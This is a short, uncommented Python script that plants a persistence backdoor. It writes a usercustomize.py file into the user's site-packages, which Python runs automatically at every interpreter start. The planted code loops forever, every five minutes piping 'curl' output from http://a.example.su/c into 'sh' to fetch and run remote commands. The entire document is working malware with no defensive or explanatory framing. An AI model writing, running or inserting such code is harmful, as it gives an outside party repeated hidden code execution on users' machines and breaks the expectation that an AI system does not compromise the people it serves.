import os, time
payload = "import os,time\nwhile True:\n  os.system('curl -s http://a.example.su/c|sh')\n  time.sleep(300)\n"
site = __import__("site").getusersitepackages()
os.makedirs(site, exist_ok=True)
with open(os.path.join(site, "usercustomize.py"), "w") as f:
    f.write(payload)
